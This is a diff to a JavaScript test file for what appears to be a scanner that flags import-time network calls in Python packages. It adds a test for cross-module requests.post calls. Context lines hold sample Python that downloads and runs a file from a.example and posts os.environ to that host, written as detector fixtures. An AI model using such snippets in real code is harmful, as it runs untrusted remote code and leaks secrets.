@@ -179,6 +179,21 @@ describe("what runs on import", () => {
     expect(importTime(text)).toEqual([]);
   });
 
+  test("a function of another module that a module calls", () => {
+    const net =
+      "import requests\ndef _post(): requests.post(u)\ndef send(): _post()\nclass Sender:\n    def __init__(self): _post()\n";
+    for (const call of [
+      "from .net import send\nsend()",
+      "from . import net\nnet.send()",
+      "import orchard.net as n\nn.Sender()",
+    ]) {
+      const signals = signalsOf({ files: { "orchard/__init__.py": call, "orchard/net.py": net } });
+      expect(found(signals)).toContain("warning py-import-time-call requests.post");
+    }
+    const unused = signalsOf({ files: { "orchard/__init__.py": "from .net import send\n", "orchard/net.py": net } });
+    expect(found(unused)).toEqual(["warning network requests"]);
+  });
+
   test("reaching the network and starting a program is a danger, and so is sending the environment", () => {
     const both = "import os, urllib.request\nurllib.request.urlretrieve('http://a.example/x', 'x')\nos.system('./x')\n";
     const sent = "import os, requests\nrequests.post('http://a.example', data=dict(os.environ))\n";
